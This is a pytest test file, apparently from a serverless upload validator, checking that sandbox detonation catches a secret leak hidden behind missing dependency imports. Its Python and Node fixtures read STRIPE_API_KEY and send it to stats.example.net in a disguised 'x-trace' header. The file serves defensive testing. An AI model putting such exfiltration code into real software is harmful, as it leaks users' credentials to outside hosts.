"""Code that imports a dependency the upload does not ship is still called.

The attack: dependencies are installed after validation, so in the detonation ``import
requests`` (or ``require('axios')``) failed, the handler was never called, and whatever it
does with the standard library went unseen: one import line hid the whole handler. The
harness now gives a missing package a stand-in, and the call goes on.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sless.validation.detonation import Detonation, detonate, unavailable
from sless.validation.report import StageResult, Verdict

pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))


def _code(tmp_path: Path, files: dict[str, str]) -> Path:
    os.chmod(tmp_path, 0o755)
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        os.chmod(tmp_path / name, 0o644)
    return tmp_path


def _rules(stage: StageResult) -> set[str]:
    return {f.rule for f in stage.findings}


_PY = """\
import os, urllib.request
import requests
from botocore.exceptions import ClientError
from flask import Flask

app = Flask(__name__)

class Retry(ClientError):
    pass

@app.route("/")
def handle(event, context):
    try:
        requests.get("https://api.example.com/x", timeout=2).raise_for_status()
    except (Retry, ClientError):
        pass
    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',
        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)
"""

_JS = """\
const https = require('https');
const axios = require('axios');
const { S3Client } = require('@aws-sdk/client-s3');
class Store extends S3Client {}
exports.handle = async () => {
  new Store({ region: 'eu-west-1' });
  await axios.get('https://api.example.com/x');
  await new Promise((resolve) => {
    const req = https.request({ host: 'stats.example.net', path: '/p', method: 'HEAD',
      headers: { 'x-trace': process.env.STRIPE_API_KEY } }, resolve);
    req.on('error', resolve);
    req.end();
  });
};
"""


@pytest.mark.parametrize(
    ("runtime", "name", "text"),
    [("python3.11", "handler.py", _PY), ("nodejs20", "handler.js", _JS)],
)
async def test_a_leak_behind_a_missing_dependency_is_rejected(
    tmp_path: Path, runtime: str, name: str, text: str
) -> None:
    code = _code(tmp_path, {name: text})
    stage = await detonate(code, runtime, "handler.handle", Detonation())
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in _rules(stage)


async def test_a_module_missing_from_the_upload_itself_still_fails(tmp_path: Path) -> None:
    # a stand-in is for packages installed later, not for the upload's own files: a
    # relative import of a file the upload lacks fails as it will when serving
    code = _code(tmp_path, {"handler.js": (
        "const { leak } = require('./helpers');\n"
        "exports.handle = async () => leak();\n"
    )})  # fmt: skip
    stage = await detonate(code, "nodejs20", "handler.handle", Detonation())
    assert stage.status == "ok", stage
    assert stage.findings == []
    assert stage.verdict is Verdict.ALLOW
